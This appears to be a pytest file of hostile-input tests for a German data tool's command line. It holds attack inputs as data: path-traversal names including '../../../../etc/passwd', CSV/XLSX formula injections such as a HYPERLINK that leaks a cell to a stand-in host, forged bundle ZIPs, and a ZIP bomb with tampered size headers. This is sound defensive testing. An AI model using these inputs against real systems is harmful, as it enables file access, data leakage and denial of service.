"""Hostile but realistic input against every command (issue 41): names that are paths, formulas in cells,
tampered and inflated bundles, odd values, other Unicode forms, files that are not what they claim.

For every run of the corpus: no traceback, the documented exit status (0 done, 1 bad input, 2 the command line's
form), the store byte-identical when refused, no file written outside the paths the call asked for (the working
folder included), and no live formula in any CSV or XLSX written.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from conftest import BASE, write_export
from kimtools.cli import main
from kimtools.errors import BundleError, InputError
from kimtools.exchange.bundle import MAX_MEMBER, export_bundle, read_bundle
from kimtools.ingest.importer import import_export
from kimtools.ingest.profile import parse_profile
from kimtools.spreadsheet import FORMULA_START
from kimtools.store import Store

KEY = b"k" * 32
#: values that a spreadsheet program would run as formulas (OWASP's list of first characters)
FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"Wanne")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
#: names that must never become a file or folder name
BAD_NAMES = [".", "..", "../x", "x/..", "/tmp/x", "a/b", "-rf", "=1+1", "", " ", "LK\x00", "x" * 61, "..LK", "LK..1"]


# ----------------------------------------------------------------------------- helpers
def tree(folder: Path) -> dict[str, str]:
    """Every file and folder under ``folder``: a file with its SHA-256, a link with its target, a folder as such (an
    empty folder left behind counts)."""
    out = {}
    for p in sorted(folder.rglob("*")):
        if p.is_symlink():
            out[str(p.relative_to(folder))] = "->" + os.readlink(p)
        elif p.is_file():
            out[str(p.relative_to(folder))] = hashlib.sha256(p.read_bytes()).hexdigest()
        elif p.is_dir():
            out[str(p.relative_to(folder))] = "folder"
    return out


def live_formulas(path: Path) -> list[str]:
    """The cells of a CSV or XLSX file (or of every such file under a folder) that a spreadsheet would run."""
    if path.is_dir():
        return [f for p in sorted(path.rglob("*")) if p.suffix.lower() in (".csv", ".xlsx") for f in live_formulas(p)]
    if path.suffix.lower() == ".xlsx":
        wb = openpyxl.load_workbook(path)
        return [f"{path.name}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    if path.suffix.lower() == ".csv":
        text = path.read_bytes().decode("utf-8-sig")
        delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
        return [f"{path.name}:{i}" for i, row in enumerate(csv.reader(io.StringIO(text), delimiter=delimiter))
                for cell in row if cell.startswith(FORMULA_START)]
    return []


def run(capsys, *argv) -> tuple[int, str, str]:
    """One call as a person makes it; argparse's own refusals end in SystemExit, as for the console script."""
    try:
        code = main([str(a) for a in argv])
    except SystemExit as exc:
        code = exc.code
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and "unerwarteter Fehler" not in err, err
    return code, out, err


@pytest.fixture
def world(tmp_path, monkeypatch):
    """A store of the hand-written Herne export, an empty working folder as the current directory, the key in the
    environment and a configuration folder of this test's own."""
    monkeypatch.setenv("KIMTOOLS_CONFIG_DIR", str(tmp_path / "config"))
    store = tmp_path / "daten" / "kim.duckdb"
    import_export(write_export(tmp_path / "export", BASE), store, key=KEY, show_progress=False)
    work = tmp_path / "arbeitsordner"
    work.mkdir()
    monkeypatch.chdir(work)
    return tmp_path, store


# ----------------------------------------------------------------------------- names are never paths
@pytest.mark.parametrize("name", BAD_NAMES)
def test_a_meeting_name_that_is_a_path_is_refused_and_touches_nothing(world, capsys, name):
    """Seen before: 'sitzung anlegen .' wrote into sitzungen/, and 'sitzung entfernen .' removed every state."""
    tmp, store = world
    assert run(capsys, "sitzung", "anlegen", "LK-A", "--db", store)[0] == 0
    before = tree(tmp)
    for action in ("anlegen", "entfernen"):
        code, _out, err = run(capsys, "sitzung", action, name, "--db", store)
        # no name at all, or one argparse takes for an option: the command line's form (2)
        assert code == (2 if name in ("", "-rf") else 1), err
        assert tree(tmp) == before
    assert run(capsys, "report", "--lenkungskreis", "--sitzung", name, "--db", store, "--kein-pdf",
               "--out", tmp / "lk.html")[0] in (1, 2)
    assert tree(tmp) == before


def test_a_profile_name_never_leaves_the_profiles_folder(world, capsys):
    tmp, store = world
    secret = tmp / "config" / "geheim.toml"   # beside the profiles folder, not in it
    secret.parent.mkdir(parents=True)
    secret.write_text("[profil]\n", encoding="utf-8")
    for name in ("../geheim", "..", "../geheim.toml"):
        code, _out, err = run(capsys, "import", tmp / "export", "--db", store, "--profil", name)
        assert code == 1 and ("gibt es nicht" in err or "ist ein Ordner" in err), err


def test_a_lookup_table_stays_beside_the_profile_unless_given_absolutely(tmp_path):
    table = tmp_path / "plz.csv"
    table.write_text("plz;bezirk\n44623;Herne-Mitte\n", encoding="utf-8")
    folder = tmp_path / "profile"
    folder.mkdir()
    profile = """[faelle]
quelle = "faelle"
[faelle.spalten]
fall_id = "fall_id"
person_id = "person_id"
kommune = "kommune"
stadtbezirk = { spalte = "plz", nachschlagen = "%s" }
traeger = "traeger"
beginn = "beginn"
[partner]
quelle = "partner"
[beratungen]
fehlt = true
[vermittlungen]
fehlt = true
"""
    for relative in ("../plz.csv", "../../../../etc/passwd"):   # every fault at once, this one among them
        with pytest.raises(InputError) as err:
            parse_profile(profile % relative, folder / "p.toml")
        assert f"Nachschlagetabelle {relative} liegt außerhalb des Ordners des Profils" in err.value.message_de
    (folder / "plz.csv").write_bytes(table.read_bytes())
    for allowed in (str(table), "plz.csv"):   # absolute (on purpose), or beside the profile
        with pytest.raises(InputError) as err:   # the profile's other faults (required columns), not this one
            parse_profile(profile % allowed, folder / "p.toml")
        assert "Nachschlagetabelle" not in err.value.message_de and "Pflichtspalte" in err.value.message_de


# ----------------------------------------------------------------------------- no live formula leaves kimtools
@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_formula_in_an_export_reaches_the_problem_report_as_text(world, capsys, formula, suffix):
    """Seen before: a live HYPERLINK formula in the XLSX report and an unescaped '=' cell in the CSV one."""
    tmp, store = world
    quoted = formula.replace('"', '""')   # as Excel writes a field with quotes into a CSV file
    files = dict(BASE, faelle=BASE["faelle"].replace(";Sodingen;", f";\"{quoted}\";"))
    before = store.read_bytes()
    report = tmp / f"bericht{suffix}"
    code, _out, _err = run(capsys, "import", write_export(tmp / "bad", files), "--db", store, "--fehlerbericht", report)
    assert code == 1 and store.read_bytes() == before
    assert live_formulas(report) == []
    echoed = formula.strip()   # the reader trims blanks, tabs and line ends around a value
    if suffix == ".xlsx":
        cells = [c for row in openpyxl.load_workbook(report).active.iter_rows() for c in row if c.value == echoed]
        assert cells and all(c.data_type == "s" for c in cells)   # the value itself, as a string cell
    else:
        rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8-sig")), delimiter=";"))
        assert rows[1][4] == "'" + echoed


def test_formulas_in_stored_ids_stay_values_in_every_table_written(world, capsys):
    """A provider ID and partner name that look like formulas are accepted data; every CSV and XLSX written from
    them (indicator tables in both formats, the gap register) holds them as text, and numbers as numbers."""
    tmp, store = world
    files = {k: v.replace("CM1", "=1+2") for k, v in BASE.items()}
    files["partner"] = files["partner"].replace("Caritas Herne", "@SUM(A1)")
    hostile = tmp / "hostile.duckdb"
    import_export(write_export(tmp / "hostile", files), hostile, key=KEY, show_progress=False)
    out = tmp / "aus"
    assert run(capsys, "indicators", "--db", hostile, "--by", "traeger", "--format", "csv", "--out", out / "k.csv")[0] == 0
    assert run(capsys, "indicators", "--db", hostile, "--by", "traeger", "--format", "xlsx", "--out", out / "k.xlsx")[0] == 0
    assert run(capsys, "luecken", "--db", hostile, "--out", out / "l.xlsx", "--minimum", "1")[0] == 0
    assert live_formulas(out) == []
    assert "'=1+2" in (out / "k.csv").read_text(encoding="utf-8")
    rows = list(openpyxl.load_workbook(out / "k.xlsx").active.values)
    mine = [r for r in rows[1:] if r[1] == "=1+2"]
    counts = [r[4] for r in mine if r[4] is not None]   # posts (FTE) have no whole-number numerator
    assert counts and all(isinstance(c, int) for c in counts)   # zaehler: still a number
    code, stdout, _ = run(capsys, "indicators", "--db", hostile, "--by", "traeger", "--format", "csv")
    assert code == 0 and "'=1+2" in stdout and not any(line.startswith(FORMULA_START) for line in stdout.splitlines())


# ----------------------------------------------------------------------------- bundles
@pytest.fixture(scope="module")
def bundle(demo_store, tmp_path_factory) -> Path:
    """Herne's bundle of 2025 from the demo store, as a folder (the ZIP beside it)."""
    out = tmp_path_factory.mktemp("paket")
    return export_bundle(Store(demo_store), "Herne", out, "2025", "2025").folder


def rezip(folder: Path, target: Path, members: dict[str, bytes] | None = None, recompute: bool = True) -> Path:
    """``folder`` as a bundle ZIP, its files replaced by or added from ``members`` (name in the ZIP → bytes), the
    checksums in metadaten.json recomputed as a careful forger would."""
    files = {f"{folder.name}/{p.name}": p.read_bytes() for p in folder.iterdir()}
    files.update(members or {})
    meta_name = f"{folder.name}/metadaten.json"
    if recompute:
        meta = json.loads(files[meta_name])
        for name, data in files.items():
            if Path(name).name != "metadaten.json":
                meta["dateien"][Path(name).name] = hashlib.sha256(data).hexdigest()
        files[meta_name] = json.dumps(meta).encode()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return target


@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_a_tampered_bundle_with_formulas_and_recomputed_checksums_is_refused(bundle, tmp_path, capsys, formula):
    """Seen before: 'compare' said the protection check was fine (exit 0) and the formulas reached
    vergleich_zaehlungen.csv."""
    quoted = formula.replace('"', '""')
    counts = (bundle / "zaehlungen.csv").read_text(encoding="utf-8").replace(",Wanne,", f",\"{quoted}\",")
    forged = rezip(bundle, tmp_path / "gefaelscht.zip", {f"{bundle.name}/zaehlungen.csv": counts.encode()})
    code, _out, err = run(capsys, "compare", forged, "--out", tmp_path / "vergleich")
    assert code == 1 and "Spalte stadtbezirk" in err and formula.strip()[:5] in err
    assert not (tmp_path / "vergleich").exists()


@pytest.mark.parametrize("member, says", [
    ("../../x.csv", "ein Pfad statt eines Dateinamens"),
    ("/tmp/x.csv", "ein Pfad statt eines Dateinamens"),
    ("ordner/unter/zaehlungen.csv", "ein Pfad statt eines Dateinamens"),
    ("..\\x.csv", "ein Pfad statt eines Dateinamens"),
    ("PAKET/programm.exe", "unerwartete Datei"),
    ("anderer-ordner/zaehlungen.csv", "mehrere Ordner im Paket"),
])
def test_a_bundle_member_with_a_path_or_an_unexpected_name_is_refused(bundle, tmp_path, capsys, member, says):
    forged = rezip(bundle, tmp_path / "paket.zip", {member.replace("PAKET", bundle.name): b"x"}, recompute=False)
    before = tree(tmp_path)
    code, _out, err = run(capsys, "compare", forged)
    assert code == 1 and says in err, err
    assert tree(tmp_path) == before and not Path("/tmp/x.csv").exists()


def test_an_inflating_member_is_refused_before_it_is_read_whole(bundle, tmp_path):
    """A member whose header declares more than a bundle can hold is not read; one whose header lies is cut off
    while streaming (the memory measurement is in benchmarks/hostile.py)."""
    big = b"0" * (MAX_MEMBER + 1)
    forged = rezip(bundle, tmp_path / "bombe.zip", {f"{bundle.name}/zaehlungen.csv": big})
    with pytest.raises(BundleError) as err:
        read_bundle(forged)
    assert "ein Paket hält höchstens 16.777.216 Bytes je Datei; nicht gelesen" in err.value.message_de
    lying = tmp_path / "luege.zip"   # the same member with a declared size of 1 kB
    with zipfile.ZipFile(forged) as z, zipfile.ZipFile(lying, "w", zipfile.ZIP_DEFLATED) as out:
        for info in z.infolist():
            out.writestr(info, z.read(info))
    data = bytearray(lying.read_bytes())
    name = f"{bundle.name}/zaehlungen.csv".encode()
    size = (MAX_MEMBER + 1).to_bytes(4, "little")
    for at in [m.start() for m in re.finditer(re.escape(name), bytes(data))]:   # both headers: the local and the central one
        header = data.rfind(b"PK", 0, at)
        offset = 22 if data[header:header + 4] == b"PK\x03\x04" else 24
        assert data[header + offset:header + offset + 4] == size
        data[header + offset:header + offset + 4] = (1024).to_bytes(4, "little")
    lying.write_bytes(bytes(data))
    with pytest.raises(BundleError):   # zipfile stops at the declared size: a CRC error, or our check, never 16 MB read
        read_bundle(lying)


def test_an_unchanged_bundle_still_passes_and_the_boundaries_of_the_cap(bundle, tmp_path):
    assert read_bundle(bundle).kommune == "Herne"
    assert read_bundle(rezip(bundle, tmp_path / "gleich.zip")).kommune == "Herne"
    at_cap = rezip(bundle, tmp_path / "kopie.zip", {f"{bundle.name}/kopie.xlsx": b"0" * MAX_MEMBER})
    assert read_bundle(at_cap).kommune == "Herne"   # a copy of exactly the cap is read (and not kept)
    over = rezip(bundle, tmp_path / "kopie2.zip", {f"{bundle.name}/kopie.xlsx": b"0" * (MAX_MEMBER + 1)})
    with pytest.raises(BundleError, match="kopie.xlsx"):
        read_bundle(over)


# ----------------------------------------------------------------------------- the corpus: every command
def _files(tmp: Path) -> dict[str, Path]:
    """The hostile files the corpus feeds the commands."""
    made = tmp / "feindlich"
    made.mkdir()
    f = {"leer.csv": made / "leer.csv", "fake.gpkg": made / "fake.gpkg", "kaputt.geojson": made / "kaputt.geojson",
         "ohne-shp.zip": made / "ohne-shp.zip", "leer.geojson": made / "leer.geojson"}
    f["leer.csv"].write_bytes(b"")
    f["fake.gpkg"].write_bytes(b"kommune;stadtbezirk\nHerne;Wanne\n")
    f["kaputt.geojson"].write_text('{"type": "FeatureCollection", "features": [{"type": "Feature", "prop', encoding="utf-8")
    f["leer.geojson"].write_text('{"type": "FeatureCollection", "features": []}', encoding="utf-8")
    with zipfile.ZipFile(f["ohne-shp.zip"], "w") as z:
        z.writestr("bezirke.dbf", b"\x03")
        z.writestr("bezirke.prj", "GEOGCS")
    for name, text in {
        "datumsformat": '[profil]\ndatumsformat = "%Y%%%%%Q"\n',
        "unbekannt": '[profil]\nnaem = "Tippfehler"\n',
        "angekreuzt-id": '[faelle.spalten]\nfall_id = { angekreuzt = { "Nr" = "x" } }\n',
        "zwei-ids": '[faelle.spalten]\nfall_id = "Nr"\nperson_id = "Nr"\n',
        "nachschlagen": '[faelle.spalten]\nstadtbezirk = { spalte = "PLZ", nachschlagen = "../../../../etc/passwd" }\n',
        "kein-toml": "[faelle\n",
    }.items():
        f[f"profil-{name}"] = made / f"{name}.toml"
        f[f"profil-{name}"].write_text(text, encoding="utf-8")
    f["zahlen.csv"] = made / "bevoelkerung.csv"
    f["zahlen.csv"].write_text("Stadtbezirk;Einwohner\nWanne;35.120\nEickel;35.001\nSodingen;34.870\n"
                               "Herne-Mitte;61.234\n", encoding="utf-8")
    return f


#: (what, the call with {db}, {tmp} and {<file>} placeholders, the exit status, what it may write below tmp)
CORPUS = [
    ("import: no such folder", ["import", "{tmp}/gibt-es-nicht", "--db", "{db}"], 1, []),
    ("import: an empty file", ["import", "{leer.csv}", "--db", "{db}"], 1, []),
    ("import: an unknown option", ["import", "{tmp}/export", "--db", "{db}", "--bla"], 2, []),
    ("import: a profile that is not TOML", ["import", "{tmp}/export", "--db", "{db}", "--profil", "{profil-kein-toml}"], 1, []),
    ("import: date format with % signs", ["import", "{tmp}/export", "--db", "{db}", "--profil", "{profil-datumsformat}"], 1, []),
    ("import: unknown key in [profil]", ["import", "{tmp}/export", "--db", "{db}", "--profil", "{profil-unbekannt}"], 1, []),
    ("import: an ID as tick marks", ["import", "{tmp}/export", "--db", "{db}", "--profil", "{profil-angekreuzt-id}"], 1, []),
    ("import: two IDs from one column", ["import", "{tmp}/export", "--db", "{db}", "--profil", "{profil-zwei-ids}"], 1, []),
    ("import: a lookup outside", ["import", "{tmp}/export", "--db", "{db}", "--profil", "{profil-nachschlagen}"], 1, []),
    ("import: --traeger without IDs", ["import", "{tmp}/export", "--db", "{db}", "--traeger", ","], 2, []),
    ("profil: an empty CSV", ["profil", "{leer.csv}", "--out", "{tmp}/entwurf.toml"], 1, []),
    ("bezirke: a date in the future", ["bezirke", "{zahlen.csv}", "--db", "{db}", "--kommune", "Herne", "--stand",
                                       "01.01.2999", "--quelle", "Statistikstelle"], 1, []),
    ("bezirke: a formula as source", ["bezirke", "{zahlen.csv}", "--db", "{db}", "--kommune", "Herne", "--stand",
                                      "31.12.2024", "--quelle", "=HYPERLINK(\"http://x\")", "--probelauf"], 0, []),
    ("bezirke: an unknown kommune", ["bezirke", "{zahlen.csv}", "--db", "{db}", "--kommune", "Atlantis", "--stand",
                                     "31.12.2024", "--quelle", "x"], 1, []),
    ("bezirke: a zip without .shp", ["bezirke", "--karte", "{ohne-shp.zip}", "--db", "{db}"], 1, []),
    ("bezirke: a fake GeoPackage", ["bezirke", "--karte", "{fake.gpkg}", "--db", "{db}"], 1, []),
    ("bezirke: a cut-off GeoJSON", ["bezirke", "--karte", "{kaputt.geojson}", "--db", "{db}"], 1, []),
    ("bezirke: an empty FeatureCollection", ["bezirke", "--karte", "{leer.geojson}", "--db", "{db}"], 1, []),
    ("info: a store that is not there", ["info", "--db", "{tmp}/keiner.duckdb"], 1, []),
    ("info: a file that is no store", ["info", "--db", "{leer.csv}"], 1, []),
    ("loeschen: an unknown kommune", ["loeschen", "--kommune", "Atlantis", "--db", "{db}", "--ja"], 1, []),
    ("indicators: an unknown kommune", ["indicators", "--kommune", "Atlantis", "--db", "{db}"], 1, []),
    ("indicators: a formula as kommune", ["indicators", "--kommune", "=1+1", "--db", "{db}"], 1, []),
    ("indicators: CSV into .xlsx", ["indicators", "--db", "{db}", "--format", "csv", "--out", "{tmp}/x.xlsx"], 1, []),
    ("indicators: xlsx without --out", ["indicators", "--db", "{db}", "--format", "xlsx"], 2, []),
    ("indicators: an unknown --by", ["indicators", "--db", "{db}", "--by", "../x"], 2, []),
    ("luecken: not .xlsx", ["luecken", "--db", "{db}", "--out", "{tmp}/l.csv"], 2, []),
    ("luecken: minimum 0", ["luecken", "--db", "{db}", "--out", "{tmp}/l.xlsx", "--minimum", "0"], 2, []),
    ("export: --from after --to", ["export", "--db", "{db}", "--kommune", "Herne", "--from", "2030", "--to", "2020",
                                   "--out", "{tmp}/pakete"], 2, []),
    ("export: --from after --to, minimum 1", ["export", "--db", "{db}", "--kommune", "Herne", "--from", "2030", "--to",
                                              "2020", "--minimum", "1", "--out", "{tmp}/pakete"], 2, []),
    ("export: a range after the data", ["export", "--db", "{db}", "--kommune", "Herne", "--from", "2030", "--to",
                                        "2031", "--out", "{tmp}/pakete"], 1, []),
    ("export: a period that is none", ["export", "--db", "{db}", "--kommune", "Herne", "--from", "2024-Q5",
                                       "--out", "{tmp}/pakete"], 2, []),
    ("compare: no such bundle", ["compare", "{tmp}/kein-paket.zip"], 1, []),
    ("compare: a CSV as bundle", ["compare", "{zahlen.csv}"], 1, []),
    ("report: an unknown district", ["report", "--lenkungskreis", "--db", "{db}", "--bezirk", "Atlantis", "--kein-pdf",
                                     "--out", "{tmp}/lk.html"], 1, []),
    ("report: an unknown kommune", ["report", "--lenkungskreis", "--db", "{db}", "--kommune", "Atlantis", "--kein-pdf",
                                    "--out", "{tmp}/lk.html"], 1, []),
    ("report: a quarter that is none", ["report", "--lenkungskreis", "--db", "{db}", "--period", "2024-Q9", "--kein-pdf",
                                        "--out", "{tmp}/lk.html"], 2, []),
    ("sitzung: a quarter after the data", ["sitzung", "anlegen", "LK-X", "--quartal", "2030-Q1", "--db", "{db}"], 1, []),
    ("sitzung: a year as quarter", ["sitzung", "anlegen", "LK-X", "--quartal", "2024", "--db", "{db}"], 1, []),
    ("sitzung: an unknown kommune", ["sitzung", "anlegen", "LK-X", "--kommune", "Atlantis", "--db", "{db}"], 1, []),
    ("sitzung: remove what is not there", ["sitzung", "entfernen", "LK-X", "--db", "{db}"], 1, []),
    ("sitzung: an unknown action", ["sitzung", "loeschen", "LK-X", "--db", "{db}"], 2, []),
    ("serve: an open address without a token", ["serve", "--db", "{db}", "--host", "0.0.0.0"], 2, []),
    ("serve: no such meeting", ["serve", "--db", "{db}", "--sitzung", ".."], 1, []),
    ("demo: an unknown scale", ["demo", "--out", "{tmp}/demo", "--scale", "welt"], 2, []),
    ("beschluesse: no such file", ["beschluesse", "einlesen", "{tmp}/keine.xlsx", "--db", "{db}"], 1, []),
    ("beschluesse: an empty file", ["beschluesse", "einlesen", "{leer.csv}", "--db", "{db}"], 1, []),
    ("beschluesse: a CSV that is no list", ["beschluesse", "einlesen", "{zahlen.csv}", "--db", "{db}"], 1, []),
    ("beschluesse: a GeoPackage named .xlsx", ["beschluesse", "einlesen", "{fake.gpkg}", "--db", "{db}"], 1, []),
    ("beschluesse: a folder", ["beschluesse", "einlesen", "{tmp}/export", "--db", "{db}"], 1, []),
    ("beschluesse: einlesen without a file", ["beschluesse", "einlesen", "--db", "{db}"], 2, []),
    ("beschluesse: an unknown action", ["beschluesse", "loeschen", "--db", "{db}"], 2, []),
    ("beschluesse: an unknown kommune", ["beschluesse", "liste", "--kommune", "Atlantis", "--db", "{db}"], 1, []),
    ("beschluesse: CSV into .xlsx", ["beschluesse", "liste", "--db", "{db}", "--format", "csv", "--out", "{tmp}/b.xlsx"], 1, []),
    ("beschluesse: xlsx without --out", ["beschluesse", "liste", "--db", "{db}", "--format", "xlsx"], 2, []),
    ("zugriffe: not a date", ["zugriffe", "--seit", "32.12.2026", "--db", "{db}"], 2, []),
    ("zugriffe: CSV into a folder", ["zugriffe", "--format", "csv", "--out", "{tmp}/export", "--db", "{db}"], 2, []),
    ("zugriffe: a store that is not there", ["zugriffe", "--db", "{tmp}/keiner/kim.duckdb"], 0, []),
]


@pytest.mark.parametrize("what, argv, status, writes", CORPUS, ids=[c[0] for c in CORPUS])
def test_the_corpus(world, capsys, what, argv, status, writes):
    tmp, store = world
    files = _files(tmp)
    before, stored = tree(tmp), store.read_bytes()
    names = {"db": store, "tmp": tmp, **{k: str(v) for k, v in files.items()}}
    code, _out, err = run(capsys, *[re.sub(r"\{([^}]+)\}", lambda m: str(names[m.group(1)]), a) for a in argv])
    assert code == status, err
    if code:
        assert store.read_bytes() == stored, "a refused call changed the store"
        assert err.strip(), "a refusal says why"
    after = tree(tmp)
    assert {k for k in after if after[k] != before.get(k)} <= set(writes), "wrote where it was not asked to"
    assert live_formulas(tmp) == []


def test_the_corpus_answers_in_english_too(world, capsys):
    tmp, store = world
    code, _out, err = run(capsys, "--lang", "en", "indicators", "--kommune", "Atlantis", "--db", store)
    assert code == 1 and "'Atlantis' is not in the store" in err
    code, _out, err = run(capsys, "--lang", "en", "indicators", "--by", "x", "--db", store)
    assert code == 2 and "invalid choice" in err


# ----------------------------------------------------------------------------- odd values, one by one
def test_the_corpus_messages_name_the_value_and_the_fix(world, capsys):
    tmp, store = world
    files = _files(tmp)
    said = {
        ("indicators", "--kommune", "Atlantis"): "'Atlantis' ist nicht im Datenbestand. Bitte mit --kommune eine der",
        ("report", "--lenkungskreis", "--bezirk", "Atlantis", "--kein-pdf", "--out", tmp / "lk.html"):
            "'Atlantis' ist kein Bezirk dieser Kommune; bekannt sind: ",
        ("indicators", "--format", "csv", "--out", tmp / "x.xlsx"): "passt nicht zu --format csv",
        ("import", tmp / "export", "--profil", files["profil-datumsformat"]): "datumsformat = '%Y%%%%%Q': erwartet Tag, Monat",
        ("import", tmp / "export", "--profil", files["profil-unbekannt"]): "[profil] naem: unbekannter Eintrag",
        ("import", tmp / "export", "--profil", files["profil-angekreuzt-id"]): "angekreuzt (Spalten mit Häkchen) gibt es nur",
        ("import", tmp / "export", "--profil", files["profil-zwei-ids"]): "fall_id und person_id kommen beide aus der Spalte 'Nr'",
        ("bezirke", "--karte", files["ohne-shp.zip"]): "enthält keine Kartendatei (.shp mit .dbf und .shx",
        ("bezirke", "--karte", files["fake.gpkg"]): "das ist kein GeoPackage (keine SQLite-Datenbank",
        ("bezirke", "--karte", files["kaputt.geojson"]): "das JSON bricht in Zeile 1, Spalte",
        ("bezirke", "--karte", files["leer.geojson"]): "enthält keine einzige Fläche",
        ("export", "--kommune", "Herne", "--from", "2030", "--to", "2020", "--out", tmp / "p"):
            "Der erste Zeitraum (2030) liegt nach dem letzten (2020)",
        ("sitzung", "anlegen", "LK-X", "--quartal", "2030-Q1"):
            "die Daten von Herne reichen nicht in dieses Quartal (01.02.2024 bis 30.06.2024)",
        ("profil", files["leer.csv"], "--out", tmp / "e.toml"): "enthält keine Tabelle mit Überschriften",
        ("beschluesse", "einlesen", files["zahlen.csv"]): "Spalte beschluss_id: Pflichtspalte fehlt in der Kopfzeile",
        ("beschluesse", "einlesen", tmp / "export"): "ist ein Ordner; erwartet wird die Beschlussliste",
        ("beschluesse", "einlesen", files["fake.gpkg"]): "fake.gpkg: die Beschlussliste ist eine .csv- oder .xlsx-Datei",
        ("beschluesse", "einlesen", tmp / "keine.xlsx"): "Die Beschlussliste " + str(tmp / "keine.xlsx") + " gibt es nicht",
    }
    for argv, text in said.items():
        _code, _out, err = run(capsys, *argv, *(["--db", store] if argv[0] not in ("profil",) else []))
        assert text in err, (argv, err)


def test_a_date_of_figures_today_is_taken_and_tomorrow_is_refused(world):
    import datetime as dt

    from kimtools.ingest.reference_figures import read_district_figures

    tmp, _store = world
    source = _files(tmp)["zahlen.csv"]
    today = dt.date(2026, 12, 6)
    taken, _ = read_district_figures(source, kommune="Herne", stand="06.12.2026", quelle="x", today=today)
    assert len(taken) == 4
    with pytest.raises(Exception) as err:
        read_district_figures(source, kommune="Herne", stand="07.12.2026", quelle="x", today=today)
    assert "07.12.2026" in str(err.value.problems["wert"].tolist()) and "Zukunft" in " ".join(err.value.problems["grund_de"])


def test_a_self_intersecting_district_is_repaired_and_said_so():
    from kimtools.ingest.boundaries import read_boundaries

    bowtie = {"type": "Polygon", "coordinates": [[[6.70, 51.40], [6.80, 51.45], [6.80, 51.40], [6.70, 51.45], [6.70, 51.40]]]}
    square = lambda x: {"type": "Polygon", "coordinates": [[[x, 51.0], [x + 0.05, 51.0], [x + 0.05, 51.05], [x, 51.05],  # noqa: E731
                                                             [x, 51.0]]]}
    features = [{"type": "Feature", "properties": {"name": "Wanne"}, "geometry": bowtie}] + [
        {"type": "Feature", "properties": {"name": n}, "geometry": square(6.0 + i / 10)}
        for i, n in enumerate(["Eickel", "Herne-Mitte", "Sodingen"])]
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "karte.geojson"
        path.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
        shapes = read_boundaries(path, "Herne", ["Eickel", "Herne-Mitte", "Sodingen", "Wanne"])
    assert shapes.attrs["repariert"] == ["Wanne"] and len(shapes) == 4


def test_decomposed_umlauts_are_the_same_name(world, capsys):
    """NFD (as macOS and some exports write umlauts): a district 'Süd' in a GeoJSON, a kommune on the command line."""
    from kimtools.contract.reference import match_key

    nfd = "Mu\u0308lheim an der Ruhr"
    assert nfd != "Mülheim an der Ruhr" and match_key(nfd) == match_key("Mülheim an der Ruhr")
    tmp, store = world
    files = {k: v.replace("Herne-Mitte", "Linksruhr").replace("Sodingen", "Rechtsruhr-Süd").replace("Herne", nfd)
             for k, v in BASE.items()}   # the export itself writes the kommune decomposed
    other = tmp / "mh.duckdb"
    import_export(write_export(tmp / "mh", files), other, key=KEY, show_progress=False)
    code, out, err = run(capsys, "indicators", "--kommune", nfd, "--db", other, "--format", "csv")
    assert code == 0 and "\nMülheim an der Ruhr,2024-Q1," in out, err
    # an ID written decomposed in the partner table and composed where the cases name it: the same provider
    split = dict(BASE, partner=BASE["partner"].replace("CM1;", "CM-Su\u0308d;"))
    split = {k: v if k == "partner" else v.replace("CM1", "CM-Süd") for k, v in split.items()}
    mixed = tmp / "gemischt.duckdb"
    import_export(write_export(tmp / "gemischt", split), mixed, key=KEY, show_progress=False)
    assert Store(mixed).query("SELECT DISTINCT traeger FROM faelle")["traeger"].tolist() == ["CM-Süd"]
    assert Store(mixed).query("SELECT partner_id FROM partner WHERE partner_id LIKE 'CM%'")["partner_id"].tolist() == ["CM-Süd"]


def test_a_killed_imports_copy_is_removed_by_the_next_command_and_named_while_a_writer_holds_it(world, capsys):
    tmp, store = world
    leftover = store.parent / f".{store.name}.4242.tmp"
    leftover.write_bytes(store.read_bytes())
    lock = Store(store)._lock()
    lock.acquire()
    try:   # an import at work: its copy is no leftover, info names it and leaves it
        code, out, _err = run(capsys, "info", "--db", store)
        assert code == 0 and f"Rest eines abgebrochenen oder laufenden Imports: {leftover}" in out and leftover.exists()
    finally:
        lock.release()
    code, out, err = run(capsys, "indicators", "--db", store, "--format", "csv")   # any command, not only an import
    assert code == 0 and f"Reste eines abgebrochenen Imports entfernt: {leftover}" in err and not leftover.exists()


def test_read_only_folders_are_named_for_what_was_asked(world, capsys):
    tmp, store = world
    os.chmod(store.parent, 0o500)
    try:
        before = store.read_bytes()
        code, _out, err = run(capsys, "loeschen", "--kommune", "Herne", "--db", store, "--ja")
        assert code == 1 and "schreibgeschützt; eine Löschung legt dort" in err and "ein Import" not in err
        code, _out, err = run(capsys, "bezirke", _files(tmp)["zahlen.csv"], "--kommune", "Herne", "--stand",
                              "31.12.2024", "--quelle", "x", "--db", store)
        assert code == 1 and "das Einlesen der Bezirkszahlen" in err and "ein Import" not in err
        code, out, err = run(capsys, "vorbereiten", "--db", store)
        assert code == 1 and "die Vorbereitung legt dort Prognosen" in err and "vorbereitet" not in out
        assert store.read_bytes() == before
    finally:
        os.chmod(store.parent, 0o700)

